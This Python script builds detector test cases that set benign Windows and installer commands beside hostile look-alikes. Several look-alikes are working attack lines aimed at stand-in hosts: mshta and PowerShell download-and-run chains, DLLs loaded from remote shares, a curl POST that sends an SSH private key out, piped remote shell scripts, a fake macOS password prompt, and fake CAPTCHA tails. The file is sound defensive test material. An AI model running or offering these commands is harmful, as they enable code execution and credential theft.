"""Writes tests/data/cases/b12benign.jsonl: ordinary texts that were warned about or blocked
(the twelfth blind set's benign misses and real README install sections, by technique), each
beside the look-alikes that try to abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_b12benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, *.invalid,
documentation addresses). No text is copied from a blind set, a lure collection or another
detector's fixtures. Each line is {id, text, expect, technique, platform, source, target}.

Principles:

- `run-box-tool-page`: a Windows tool given the switches that only choose which of its own
  windows, tabs or logs opens (eventvwr /c:System, printui /s /t2, taskmgr /3, sndvol -m;
  resources/runbox.yaml `pages`), from an IT wiki, a mail, any page or typed. The tool alone is a
  program name from any page already; the switch reaches no computer, reads no file and starts
  nothing. Look-alikes, written by a page: a file, a share or an address as a value, a computer,
  a driver installed from an .inf, a look-alike program name, a copy of the program elsewhere, a
  second command, a switch twice, the console loaded from a share, Remote Assistance.
- `run-box-rundll-page`: rundll32 opening one of Windows' shell dialogs on the page its one
  argument names (shell32.dll,Options_RunDLL 7; shell32.dll,SHHelpShortcuts_RunDLL
  PrintersFolder), typed or from a wiki. Look-alikes: the library by a path or a share, a look-alike
  library, another library's entry point of that name, an entry point that runs what it is given,
  an address, a path or a second word as the argument, a second command.
- `own-site-spelt-across-suffix`: a repository's own page (README, releases) whose installer is
  served by a domain that spells the repository's or the account's first words across the dot
  of a country suffix (github.com/<o>/quillmere-cli and get.quillme.re), as a plain label would
  (provenance.same_project). Look-alikes: another repository's or a dotfiles page, the
  repository's issues, a gist, a name one letter off, plain HTTP, another domain around it, a
  user part, a fake check's tail, a stranger's script beside it, the Run box.
- `third-party-known-installer`: well-known tools' documented install scripts (resources/
  trust.yaml, reviewed 2026-12-07) and cloudflared's release packages on GitHub, quoted by any
  page or none. Look-alikes: the host inside another domain, a look-alike host, plain HTTP, a
  port, a user part, another account's releases, a climb out of the release path, a fake
  check's tail.
- `repository-installer-argument`: an installer script told by `--git <owner>/<repo>` which
  repository's release to install (japaric.github.io/trust/install.sh, many Rust READMEs), from
  that repository's own page. Look-alikes: another repository in the argument, two of them, none,
  another account's pages site or another path, plain HTTP, another page, a fake check page, a
  fake check's tail.
- `raw-github-alias`: raw.github.com, GitHub's first raw host, read as raw.githubusercontent.com:
  the repository's own page vouches for its files there. Look-alikes: another account's page,
  the host inside another domain.
- `run-box-repair`: Windows' own file check and image repair (sfc /scannow, DISM /Online
  /Cleanup-Image /RestoreHealth; resources/runbox.yaml `refresh`), typed, from an IT wiki or any
  page: they repair Windows from the copies and the update source it already has. Look-alikes: a
  source named (/Source:, a share), a package or a driver added, a file checked by path, a copy of
  the program elsewhere, a second command, chkdsk /f.
- `remote-tool-vendor-account`: a remote-access tool's own vendor's page (rustdesk.com's docs)
  whose download comes from the vendor's forge account of the same name (github.com/rustdesk/
  .../releases), as its own domain already did. Look-alikes: another account, a look-alike or
  help-desk page, the repository's own page (a forge account named after a tool can be
  anyone's), plain HTTP, the Run box.
- `prose-powershell-pipe`: a sentence naming PowerShell's download-and-run pipe as words ("an irm
  | iex line", "iwr | Invoke-Expression"), as a security write-up does. Look-alikes: an address,
  a host or a variable in the line, a real cmdlet line after a semicolon, a fake check's words
  with the command itself.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b12benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
BAR = "explorer_bar"
UNKNOWN = "unknown"

WIKI = "https://intranet.harrowfield.example/it/howto/run-box"
MAIL = "outlook"
HELP_PAGE = "https://support.quillmere.example/kb/printer-ports"
CHECK_PAGE = "https://verify-human.quillmere.example/captcha/step2"

# -- a Windows tool opening one of its own pages --------------------------------------------------

TOOL_PAGES = [
    "printui.exe /s /t2", "printui /s /t0", "printui /s", "PrintUI.exe /s /t1", "printui.exe /t2 /s",
    "eventvwr.msc /c:System", "eventvwr /c:Application", "eventvwr.exe /c:Security",
    "eventvwr.msc /c:Microsoft-Windows-TaskScheduler/Operational", "mmc eventvwr.msc /c:Setup",
    'EventVwr.msc /c:"Windows PowerShell"', "taskmgr /3", "Taskmgr.exe /startup", "taskmgr /0 /startup",
    "sndvol -m", "SndVol.exe -f",
    "printui /il", "printui.exe /il", "rundll32 printui.dll,PrintUIEntry /il",
]  # fmt: skip
TOOL_PAGE_LOOKALIKES = [
    r"eventvwr /l:\\203.0.113.7\s\x.evtx", r"eventvwr.msc /c:System /l:C:\Users\Public\x.evtx",
    r"eventvwr.msc /c:\\203.0.113.7\x", "eventvwr.msc /c:System /computer=203.0.113.7",
    "eventvwr.msc /c:https://cdn.umbra-stage.test/x", "eventvwr.msc /c:%LOGONSERVER%",
    r"printui.exe /s /t2 /c\\203.0.113.7", r'printui.exe /ia /m "Generic" /f \\203.0.113.7\s\x.inf',
    r"printui /if /b x /f C:\Users\Public\x.inf /r lpt1: /m x", "printui.exe /s /t2 /dl /n x",
    "prlntui.exe /s /t2", "printuі.exe /s /t2", r"C:\Users\Public\printui.exe /s /t2",
    r"%TEMP%\eventvwr.exe /c:System", "printui.exe /s /t2 /t3", "printui.exe /s /s",
    "printui.exe /s /t2 & mshta https://cdn.umbra-stage.test/a",
    "eventvwr.msc /c:System\npowershell -w h -c iwr https://cdn.umbra-stage.test/a|iex",
    r"mmc \\203.0.113.7\s\eventvwr.msc /c:System", r"mmc C:\Users\Public\Downloads\eventvwr.msc /c:System",
    "eventvwr.msc /c:System https://cdn.umbra-stage.test/a.msc", "taskmgr /3 calc", "sndvol -m -m",
    "msra /novice", "msra /expert",
    r"printui /il /f \\203.0.113.7\s\x.inf",
    r"rundll32 printui.dll,PrintUIEntry /ia /m x /f \\203.0.113.7\s\x.inf",
    r"rundll32 printui.dll,PrintUIEntry /il /c\\203.0.113.7", r"rundll32 C:\Users\Public\printui.dll,PrintUIEntry /il",
    r"printui.exe /ga /n\\203.0.113.7\Floor2",
]  # fmt: skip


TYPED_OWN = {
    r"eventvwr.msc /c:System /l:C:\Users\Public\x.evtx",
    "eventvwr.msc /c:System /computer=203.0.113.7",
}


def tool_pages(book: Book) -> None:
    sources = [WIKI, None, MAIL, HELP_PAGE]
    for i, text in enumerate(TOOL_PAGES):
        target = BAR if i % 7 == 6 else RUN
        book.add("run-box-tool-page", text, "not_flagged", "windows", target, sources[i % 4])
    for text in TOOL_PAGES[:6]:
        # a fake check page gains nothing the tool's bare name did not give it already
        book.add("run-box-tool-page", text, "not_flagged", "windows", RUN, CHECK_PAGE)
    for i, text in enumerate(TOOL_PAGE_LOOKALIKES):
        book.add(
            "tool-page-lookalike", text, "malicious", "windows", RUN, (HELP_PAGE, CHECK_PAGE)[i % 2]
        )
    for text in TOOL_PAGE_LOOKALIKES[:12]:
        if text not in TYPED_OWN:  # a saved log here, another computer's: an admin's, typed
            book.add("tool-page-lookalike", text, "flagged", "windows", RUN)


# -- rundll32 opening a shell dialog on one of its pages ------------------------------------------

RUNDLL_PAGES = [
    "rundll32.exe shell32.dll,Options_RunDLL 7", "rundll32 shell32.dll,Options_RunDLL 0",
    "RunDll32.exe shell32.dll,Options_RunDLL 1", "rundll32.exe SHELL32.DLL,options_rundll 3",
    "rundll32 shell32.dll,SHHelpShortcuts_RunDLL PrintersFolder",
    "rundll32.exe shell32.dll,SHHelpShortcuts_RunDLL AddPrinter",
    "rundll32.exe shell32.dll,SHHelpShortcuts_RunDLL FontsFolder",
    "rundll32 shell32.dll,Options_RunDLL 2", "rundll32.exe shell32.dll,Options_RunDLL 10",
    "rundll32.exe shell32.dll,SHHelpShortcuts_RunDLL printersfolder",
]  # fmt: skip
RUNDLL_PAGE_LOOKALIKES = [
    r"rundll32 \\203.0.113.7\s\shell32.dll,Options_RunDLL 7",
    r"rundll32 C:\Users\Public\shell32.dll,Options_RunDLL 7",
    r"rundll32 %TEMP%\shell32.dll,Options_RunDLL 0",
    r"rundll32 \\cdn.umbra-stage.test@SSL\DavWWWRoot\shell32.dll,Options_RunDLL 7",
    "rundll32 she1132.dll,Options_RunDLL 7", "rundll32 shell32.dll.dll,Options_RunDLL 7",
    "rundll32 helper.dll,Options_RunDLL 7", "rundll32 url.dll,Options_RunDLL 7",
    "rundll32 shell32.dll,ShellExec_RunDLL https://cdn.umbra-stage.test/a.hta",
    "rundll32 shell32.dll,ShellExec_RunDLL mshta https://cdn.umbra-stage.test/a",
    "rundll32 shell32.dll,Options_RunDLL https://cdn.umbra-stage.test/a",
    r"rundll32 shell32.dll,Options_RunDLL \\203.0.113.7\s\a.dll",
    r"rundll32 shell32.dll,SHHelpShortcuts_RunDLL C:\Users\Public\a.exe",
    "rundll32 shell32.dll,SHHelpShortcuts_RunDLL Connect https://cdn.umbra-stage.test/",
    "rundll32 shell32.dll,Options_RunDLL 7 https://cdn.umbra-stage.test/a",
    "rundll32 shell32.dll,Options_RunDLL 7 8",
    "rundll32 shell32.dll,Options_RunDLL 7 & mshta https://cdn.umbra-stage.test/a",
    "rundll32 shell32.dll,Options_RunDLL 7,https://cdn.umbra-stage.test/a",
    "rundll32 shell32.dll,Options_RunDLL 123",
    "rundll32 shell32.dll,Control_RunDLL \\\\203.0.113.7\\s\\x.cpl",
]  # fmt: skip


def rundll_pages(book: Book) -> None:
    for i, text in enumerate(RUNDLL_PAGES):
        book.add("run-box-rundll-page", text, "not_flagged", "windows", RUN, (None, WIKI)[i % 2])
    for i, text in enumerate(RUNDLL_PAGE_LOOKALIKES):
        book.add(
            "rundll-page-lookalike",
            text,
            "malicious",
            "windows",
            RUN,
            (HELP_PAGE, CHECK_PAGE)[i % 2],
        )
        book.add("rundll-page-lookalike", text, "flagged", "windows", RUN)


# -- Windows' own file check and image repair ---------------------------------------------------

REPAIRS = [
    "Sfc /ScanNow", "sfc.exe /scannow", "SFC /SCANNOW", "sfc /verifyonly",
    "DISM.exe /Online /Cleanup-Image /RestoreHealth", "dism /online /cleanup-image /scanhealth",
    "Dism.exe /Online /Cleanup-Image /CheckHealth", "cmd /c sfc /scannow",
    "cmd /k DISM /Online /Cleanup-Image /RestoreHealth", "dism /Online /Cleanup-Image /ScanHealth",
]  # fmt: skip
REPAIR_LOOKALIKES = [
    r"DISM /Online /Cleanup-Image /RestoreHealth /Source:\\203.0.113.7\s\install.wim",
    r"dism /online /add-package /packagepath:\\203.0.113.7\s\x.cab",
    r"dism /online /add-driver /driver:C:\Users\Public\x.inf",
    "dism /online /enable-feature /featurename:TelnetClient",
    r"sfc /scanfile=C:\Users\Public\x.dll", r"sfc /offbootdir=\\203.0.113.7\s /scannow",
    r"C:\Users\Public\sfc.exe /scannow", "sfc /scannow & mshta https://cdn.umbra-stage.test/a",
    "sfc /scannow && powershell -w h -c iwr https://cdn.umbra-stage.test/a|iex", "chkdsk C: /f /r",
    "sfc /scannow /scannow",
]  # fmt: skip


def repairs(book: Book) -> None:
    sources = [None, WIKI, HELP_PAGE]
    for i, text in enumerate(REPAIRS):
        book.add("run-box-repair", text, "not_flagged", "windows", RUN, sources[i % 3])
    for i, text in enumerate(REPAIR_LOOKALIKES):
        book.add(
            "repair-lookalike", text, "malicious", "windows", RUN, (HELP_PAGE, CHECK_PAGE)[i % 2]
        )
        book.add("repair-lookalike", text, "flagged", "windows", RUN)


# -- sentences naming PowerShell's download-and-run pipe ------------------------------------------

PS_PIPES = [
    "Fake meeting pages say the microphone is blocked; on Windows the fix button copies an irm | iex line with a comment about drivers.",
    "The lure swaps its curl | bash line for an iwr | iex one-liner when the visitor runs Windows.",
    "Our policy: never run an irm | iex installer from a chat message, however urgent it sounds.",
    "Blue teams should alert on iwr | Invoke-Expression patterns started by Explorer from the Run box.",
    "Why do so many Windows tools still document irm | iex as their only install method?",
    "The second stage arrives through a plain irm | IEX call hidden behind a fake update banner.",
    "Attackers tell visitors to press Win+R and paste an iwr | iex line that the page copied for them.",
    "She explained why an irm | iex installer is no worse than a downloaded setup file, and why it still feels risky.",
    "In March the kit moved from mshta to an Invoke-RestMethod | Invoke-Expression chain.",
    "Treat any page that asks you to paste an irm | iex command into PowerShell as hostile.",
    "Defenders saw the same irm | iex lure on a fake Teams page and on a fake Zoom page.",
    "Ask yourself who wrote it before you run an iwr | iex snippet from a forum.",
]  # fmt: skip
PS_PIPE_LOOKALIKES = [
    ("Verify you are human by running this now; irm cdn.umbra-stage.test/a | iex", "malicious"),
    ("Please verify you are human by running irm https://cdn.umbra-stage.test/a | iex", "flagged"),
    ("To finish the repair run the line below; irm $u | iex", "flagged"),
    ("Continue the setup as the guide says | iex (irm https://cdn.umbra-stage.test/a)", "flagged"),
    ("Continue the setup as the guide says & irm 203.0.113.8/a | iex", "flagged"),
    ("Finish the setup the way the page says; iwr -useb cdn.umbra-stage.test/s | iex", "flagged"),
    ("Thanks for waiting, the fix starts now; irm https://cdn.umbra-stage.test/r | iex # Verification ID 7731", "malicious"),
    ("The audio driver repair runs in the background now | powershell -w h -c \"irm https://cdn.umbra-stage.test/r | iex\"", "flagged"),
    ("irm https://cdn.umbra-stage.test/a | iex", "flagged"),
    ("Run this in PowerShell to fix the microphone: irm https://cdn.umbra-stage.test/m | iex", "flagged"),
]  # fmt: skip


def ps_pipes(book: Book) -> None:
    sources = [None, "https://blog.threat-notes.example/2026/fake-meet", WIKI]
    for i, text in enumerate(PS_PIPES):
        book.add("prose-powershell-pipe", text, "not_flagged", "any", UNKNOWN, sources[i % 3])
    for text, expect in PS_PIPE_LOOKALIKES:
        book.add("powershell-pipe-lookalike", text, expect, "windows", TERMINAL, CHECK_PAGE)
        book.add("powershell-pipe-lookalike", text, "flagged", "windows", UNKNOWN)


# -- a domain hack naming the repository ---------------------------------------------------------

# (the repository's own page, the domain that spells its name across the dot)
SPELT = [
    ("https://github.com/quillmere-dev/quillmere-cli", "quillme.re"),
    ("https://github.com/luminus/luminus", "lumin.us"),
    ("https://github.com/orbito-io/orbito-cli", "orbi.to"),
    ("https://github.com/tindral/tindral-server", "tindr.al"),
    ("https://github.com/emberly-hq/emberly", "ember.ly"),
    ("https://github.com/gantree/gantree-cli/releases", "gantr.ee"),
    ("https://github.com/marlows-dev/marlows", "marlo.ws"),
    ("https://github.com/corvus-sh/corvus-agent", "corv.us"),
    ("https://github.com/heliotro/heliotro", "heliot.ro"),
    ("https://github.com/arktis-labs/arktis-cli", "arkt.is"),
    ("https://github.com/zephyre-dev/zephyre", "zephy.re"),
]
SPELT_SHAPES = [
    "curl -sSfL https://get.{d}/install.sh | bash",
    "curl -fsSL https://{d}/install.sh | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.{d} | sh",
    "wget -qO- https://get.{d} | bash -s -- --yes",
]
SPELT_LOOKALIKES = [
    ("https://github.com/quillmere-dev/quillmere-cli", "curl -fsSL http://get.quillme.re/install.sh | sh", "flagged"),
    ("https://github.com/luminus/luminus", "curl -fsSL https://get.lumin.us.umbra-stage.test/install.sh | sh", "flagged"),
    ("https://github.com/orbito-io/orbito-cli", "curl -fsSL https://orbito@get.orbi.to.umbra-stage.test/i | sh", "flagged"),
    ("https://github.com/tindral/tindral-server/issues/41", "curl -fsSL https://get.tindr.al/install.sh | sh", "flagged"),
    ("https://github.com/someone/dotfiles", "curl -fsSL https://get.ember.ly/install.sh | sh", "flagged"),
    ("https://github.com/gantree/gantree-cli", "curl -fsSL https://get.gantr.ie/install.sh | sh", "flagged"),
    ("https://github.com/marlows-dev/marlows", "curl -fsSL https://get.marlo.ws/install.sh | sh # I am not a robot - reCAPTCHA Verification ID: 5521", "malicious"),
    ("https://github.com/corvus-sh/corvus-agent", "curl -fsSL https://get.corv.us/i.sh | sh; curl -s -X POST -d @$HOME/.ssh/id_rsa https://drop.umbra-stage.test/u", "malicious"),
    ("https://gist.github.com/someone/5c1e", "curl -fsSL https://get.heliot.ro/install.sh | sh", "flagged"),
    ("https://github.com/arktis-labs/arktis-cli", "curl -fsSL https://get.arkt.is.umbra-stage.test/install.sh | sh", "flagged"),
    ("https://verify-human.quillmere.example/captcha/step2", "curl -fsSL https://get.quillme.re/install.sh | sh", "flagged"),
    ("https://github.com/other-org/widget", "curl -fsSL https://get.zephy.re/install.sh | sh", "flagged"),
]  # fmt: skip


def spelt_sites(book: Book) -> None:
    for i, (page, domain) in enumerate(SPELT):
        for j in range(2):
            text = SPELT_SHAPES[(i + j) % len(SPELT_SHAPES)].format(d=domain)
            book.add("own-site-spelt-across-suffix", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in SPELT_LOOKALIKES:
        book.add("spelt-site-lookalike", text, expect, "linux", TERMINAL, page)
    for _page, domain in SPELT[:3]:
        text = SPELT_SHAPES[0].format(d=domain)
        book.add("spelt-site-run-box", text, "malicious", "windows", RUN, CHECK_PAGE)
        book.add("spelt-site-bare", text, "flagged", "linux", UNKNOWN)


# -- well-known installers quoted anywhere ---------------------------------------------------------

KNOWN = [
    "curl -s https://fluxcd.io/install.sh | sudo bash",
    "curl -L https://istio.io/downloadIstio | sh -",
    "curl -L https://istio.io/downloadIstio | ISTIO_VERSION=1.24.0 TARGET_ARCH=x86_64 sh -",
    "bash <(curl -L https://zellij.dev/launch)",
    "curl -fsSL https://moonrepo.dev/install/moon.sh | bash",
    "bash <(curl -fsSL https://moonrepo.dev/install/proto.sh)",
    "curl -sSL https://get.haskellstack.org/ | sh",
    "curl -sSL https://get.livekit.io | bash",
    "curl -sL https://firebase.tools | bash",
    "curl -fsSL https://cli.coderabbit.ai/install.sh | sh",
    "\\curl -sSL https://get.rvm.io | bash -s stable",
    "curl https://www.zvm.app/install.sh | bash",
    "irm https://www.zvm.app/install.ps1 | iex",
    "curl -fsSL https://opencode.ai/install | bash",
    "curl https://cursor.com/install -fsS | bash",
    "curl -fsSL https://app.factory.ai/cli | sh",
    "curl https://install.meteor.com/ | sh",
    "curl -sSL https://raw.githubusercontent.com/python-poetry/install.python-poetry.org/main/install-poetry.py | python3 -",
    "curl -L --output cloudflared.deb https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64.deb && sudo dpkg -i cloudflared.deb",
    "wget -q https://github.com/cloudflare/cloudflared/releases/download/2024.12.2/cloudflared-linux-amd64.deb\nsudo dpkg -i cloudflared-linux-amd64.deb",
    "curl -L https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-x86_64.rpm -o cloudflared.rpm && sudo rpm -i cloudflared.rpm",
]  # fmt: skip
QUOTING = [
    "https://github.com/cloudflare/cloudflared",
    "https://github.com/acme-labs/orbit-api",
    "https://dev.to/harbourdev/my-homelab-setup-2026-3kf1",
    "https://stackoverflow.com/questions/7721330/how-to-install",
    "https://www.digitalocean.com/community/tutorials/how-to-set-up-a-tunnel",
    "https://docs.quillmere.example/getting-started/",
    None,
]
KNOWN_LOOKALIKES = [
    "curl -s https://fluxcd.io.umbra-stage.test/install.sh | sudo bash",
    "curl -L https://istio-io.example/downloadIstio | sh -",
    "curl -L http://istio.io/downloadIstio | sh -",
    "curl -fsSL https://moonrepo.dev:4443/install/moon.sh | bash",
    "curl -sL https://firebase.tools@203.0.113.9/ | bash",
    "curl -sSL https://get-haskellstack.test/ | sh",
    "curl -fsSL https://cli.coderabbit.ai.umbra-stage.test/install.sh | sh",
    "curl -fsSL https://opencode.ai.umbra-stage.test/install | bash",
    "curl -L --output c.deb https://github.com/cloudflare-verify/cloudflared/releases/latest/download/c.deb && sudo dpkg -i c.deb",
    "curl -L --output c.deb https://github.com/cloudflared/cloudflared/releases/latest/download/c.deb && sudo dpkg -i c.deb",
    "curl -L --output c.deb https://github.com/cloudflare/cloudflared/releases/../../../umbra/x/raw/main/c.deb && sudo dpkg -i c.deb",
    "curl -sSL https://raw.githubusercontent.com/python-poetry-dev/install.python-poetry.org/main/install-poetry.py | python3 -",
    "curl -sSfL https://get.tur.so.umbra-stage.test/install.sh | bash",
    "curl https://www.zvm.app.umbra-stage.test/install.sh | bash",
]  # fmt: skip
KNOWN_WITH_LURE = [
    "curl -s https://fluxcd.io/install.sh | sudo bash # I am not a robot - reCAPTCHA Verification ID: 7731",
    "curl -fsSL https://opencode.ai/install | bash; osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
    "curl -sL https://firebase.tools | bash && curl -s https://203.0.113.7/k | sh",
]  # fmt: skip


def known_installers(book: Book) -> None:
    for i, text in enumerate(KNOWN):
        for j in range(2):
            page = QUOTING[(i + j * 3) % len(QUOTING)]
            book.add("third-party-known-installer", text, "not_flagged", "any", TERMINAL, page)
    for i, text in enumerate(KNOWN_LOOKALIKES):
        page = QUOTING[1 + i % 5]
        book.add("known-installer-lookalike", text, "flagged", "any", TERMINAL, page)
    for text in KNOWN_WITH_LURE:
        book.add("known-installer-with-lure", text, "malicious", "any", TERMINAL, QUOTING[2])
    for text in KNOWN[:6]:
        book.add("known-installer-run-box", text, "malicious", "windows", RUN, CHECK_PAGE)


# -- an installer script told which repository to install ---------------------------------------

TRUST_SCRIPT = "https://japaric.github.io/trust/install.sh"
ARGUMENT_REPOS = [
    ("quillmere", "widgetctl"), ("tarnwick-dev", "tarnfmt"), ("fenwick", "fenwick-cli"),
    ("harbourdev", "logslice"), ("kestrel-tools", "kestrel"), ("ombrella", "umbra-sync"),
    ("gantree", "gtree"), ("marlows-dev", "marl"), ("corvus-sh", "corvus"), ("arktis-labs", "ice"),
]  # fmt: skip
ARGUMENT_SHAPES = [
    "curl -LSfs {s} | sh -s -- --git {o}/{r}",
    "curl -LSfs {s} | sh -s -- --git {o}/{r} --target x86_64-unknown-linux-musl",
    "curl -LSfs {s} | sh -s -- --git {o}/{r} --to ~/.cargo/bin",
    "curl --proto '=https' -LSfs {s} | sh -s -- --git {o}/{r} --tag v0.4.2 --force",
]


def argument_installers(book: Book) -> None:
    for i, (owner, repo) in enumerate(ARGUMENT_REPOS):
        page = f"https://github.com/{owner}/{repo}"
        for j in range(2):
            shape = ARGUMENT_SHAPES[(i + j) % len(ARGUMENT_SHAPES)]
            text = shape.format(s=TRUST_SCRIPT, o=owner, r=repo)
            book.add("repository-installer-argument", text, "not_flagged", "linux", TERMINAL, page)
    owner, repo = ARGUMENT_REPOS[0]
    page = f"https://github.com/{owner}/{repo}"
    lookalikes = [
        (page, f"curl -LSfs {TRUST_SCRIPT} | sh -s -- --git umbra-stage/{repo}", "flagged"),
        (page, f"curl -LSfs {TRUST_SCRIPT} | sh -s -- --git {owner}/{repo} --git umbra/x", "flagged"),
        (page, f"curl -LSfs {TRUST_SCRIPT} | sh", "flagged"),
        (page, f"curl -LSfs https://japaric-dev.github.io/trust/install.sh | sh -s -- --git {owner}/{repo}", "flagged"),
        (page, f"curl -LSfs https://japaric.github.io/trust/x.sh | sh -s -- --git {owner}/{repo}", "flagged"),
        (page, f"curl -LSfs http://japaric.github.io/trust/install.sh | sh -s -- --git {owner}/{repo}", "flagged"),
        ("https://github.com/someone/dotfiles", f"curl -LSfs {TRUST_SCRIPT} | sh -s -- --git {owner}/{repo}", "flagged"),
        (CHECK_PAGE, f"curl -LSfs {TRUST_SCRIPT} | sh -s -- --git {owner}/{repo}", "flagged"),
        (page, f"curl -LSfs {TRUST_SCRIPT} | sh -s -- --git {owner}/{repo}  # I am not a robot - reCAPTCHA Verification ID: 3391", "malicious"),
        (page, f"curl -LSfs {TRUST_SCRIPT} | sh -s -- --git {owner}/{repo} && curl -s https://203.0.113.7/k | sh", "malicious"),
    ]  # fmt: skip
    for where, text, expect in lookalikes:
        book.add("installer-argument-lookalike", text, expect, "linux", TERMINAL, where)
    text = ARGUMENT_SHAPES[0].format(s=TRUST_SCRIPT, o=owner, r=repo)
    book.add("installer-argument-bare", text, "flagged", "linux", UNKNOWN)


# -- raw.github.com, GitHub's first raw host ----------------------------------------------------

RAW_ALIAS = [
    ("https://github.com/quillmere/brewfile-kit", "curl -fsSL https://raw.github.com/quillmere/brewfile-kit/install/install.sh | sh"),
    ("https://github.com/tarnwick-dev/dotkit", "sh -c \"$(curl -fsSL https://raw.github.com/tarnwick-dev/dotkit/master/tools/install.sh)\""),
    ("https://github.com/fenwick/zsh-kit", "wget -qO- https://raw.github.com/fenwick/zsh-kit/main/install.sh | bash"),
    ("https://github.com/harbourdev/vimrc", "curl -L https://raw.github.com/harbourdev/vimrc/master/bootstrap.sh | bash"),
    ("https://github.com/kestrel-tools/kpm", "curl -fsSL https://raw.github.com/kestrel-tools/kpm/main/get.sh | sh"),
]  # fmt: skip
RAW_ALIAS_LOOKALIKES = [
    ("https://github.com/someone/dotfiles", "curl -fsSL https://raw.github.com/quillmere/brewfile-kit/install/install.sh | sh"),
    ("https://github.com/quillmere/brewfile-kit", "curl -fsSL https://raw.github.com.umbra-stage.test/quillmere/brewfile-kit/install.sh | sh"),
    ("https://github.com/quillmere/brewfile-kit", "curl -fsSL https://raw.github.com/umbra-stage/brewfile-kit/install.sh | sh"),
    ("https://github.com/quillmere/brewfile-kit", "curl -fsSL http://raw.github.com/quillmere/brewfile-kit/install/install.sh | sh"),
]  # fmt: skip


def raw_alias(book: Book) -> None:
    for page, text in RAW_ALIAS:
        book.add("raw-github-alias", text, "not_flagged", "linux", TERMINAL, page)
    for page, text in RAW_ALIAS_LOOKALIKES:
        book.add("raw-github-alias-lookalike", text, "flagged", "linux", TERMINAL, page)


# -- a remote-access tool's vendor page and its own forge account ------------------------------

VENDOR_PAGES = [
    "https://rustdesk.com/docs/en/client/linux/",
    "https://rustdesk.com/docs/en/self-host/rustdesk-server-oss/install/",
    "https://rustdesk.com/download",
]
VENDOR_TEXTS = [
    "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.deb && sudo apt install -fy ./rustdesk-1.3.2-x86_64.deb",
    "curl -LO https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-0.x86_64.rpm\nsudo dnf install ./rustdesk-1.3.2-0.x86_64.rpm",
    "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.AppImage && chmod +x rustdesk-1.3.2-x86_64.AppImage && ./rustdesk-1.3.2-x86_64.AppImage",
    "wget https://github.com/rustdesk/rustdesk-server/releases/download/1.1.12/rustdesk-server-hbbs_1.1.12_amd64.deb && sudo dpkg -i rustdesk-server-hbbs_1.1.12_amd64.deb",
    "curl -fsSLO https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-aarch64.deb\nsudo apt install ./rustdesk-1.3.2-aarch64.deb",
]  # fmt: skip
VENDOR_LOOKALIKES = [
    ("https://rustdesk.com/docs/en/client/linux/", "wget https://github.com/rustdesk-dl/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://rustdesk.com/docs/en/client/linux/", "wget https://github.com/umbra-stage/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://rustdesk.com/docs/en/client/linux/", "wget http://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://rustdesk-support.example/install", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://rustdesk.com.umbra-stage.test/docs", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://www.quillmere.example/remote-help", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://github.com/rustdesk/rustdesk", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
    ("https://rustdesk.com/docs/en/client/linux/", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb && curl -s https://203.0.113.7/k | sh"),
]  # fmt: skip


def vendor_accounts(book: Book) -> None:
    for i, text in enumerate(VENDOR_TEXTS):
        for j in range(2):
            page = VENDOR_PAGES[(i + j) % len(VENDOR_PAGES)]
            book.add("remote-tool-vendor-account", text, "not_flagged", "linux", TERMINAL, page)
    for page, text in VENDOR_LOOKALIKES:
        book.add("vendor-account-lookalike", text, "flagged", "linux", TERMINAL, page)
    text = "msiexec /i https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.msi /qn"
    book.add("vendor-account-run-box", text, "malicious", "windows", RUN, VENDOR_PAGES[2])


def build() -> list[dict[str, str]]:
    book = Book("b12b")
    tool_pages(book)
    rundll_pages(book)
    repairs(book)
    ps_pipes(book)
    spelt_sites(book)
    known_installers(book)
    argument_installers(book)
    raw_alias(book)
    vendor_accounts(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
